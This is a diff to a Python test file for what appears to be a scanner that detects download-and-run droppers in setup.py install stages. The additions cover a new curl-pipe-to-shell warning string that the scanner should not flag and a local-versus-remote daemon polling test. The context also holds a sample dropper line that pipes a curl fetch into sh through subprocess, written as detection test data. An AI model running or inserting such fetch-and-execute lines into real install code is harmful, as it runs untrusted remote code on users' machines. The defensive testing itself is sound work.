@@ -252,6 +252,7 @@ def test_a_download_and_run_line_shown_or_logged_is_no_dropper() -> None:
         "RUST = 'curl --proto =https -sSf https://rustup.example/init.sh | sh'\n"
         "log.warning('Rust is missing; install it with: ' + RUST)\n"
         "hint('install it with: curl -sSf https://rustup.example/init.sh | sh')\n"
+        "warn('install Rust: curl -sSf https://rustup.example/init.sh | sh')\n"
         "raise RuntimeError('install Rust: curl -sSf https://rustup.example/init.sh | sh')\n"
     )
     assert run(RULES, py(source, path="setup.py", stage=Stage.INSTALL)) == []
@@ -271,3 +272,17 @@ def test_a_package_manager_asked_about_curl_downloads_nothing() -> None:
         "subprocess.run('apt-get install -y curl && curl -s http://x.invalid/a | sh', shell=True)\n"
     )
     assert ids(run(RULES, py(dropper, path="setup.py", stage=Stage.INSTALL))) == {"PV-DL-003"}
+
+
+def test_polling_a_local_daemon_after_starting_it_is_no_download() -> None:
+    """SCons starts its build daemon, then asks it over 127.0.0.1 whether it is ready."""
+    source = (
+        "import http.client, subprocess, sys\n"
+        "p = subprocess.Popen([sys.executable, 'daemon.py'])\n"
+        "open('pidfile', 'w').write(str(p.pid))\n"
+        "conn = http.client.HTTPConnection('127.0.0.1', port=int(sys.argv[1]))\n"
+        "conn.request('GET', '/?ready=true')\n"
+    )
+    assert "PV-DL-002" not in ids(run(RULES, py(source, path="acme/tool/run_daemon.py")))
+    remote = source.replace("'127.0.0.1'", "'203.0.113.9'")
+    assert "PV-DL-002" in ids(run(RULES, py(remote, path="acme/tool/run_daemon.py")))
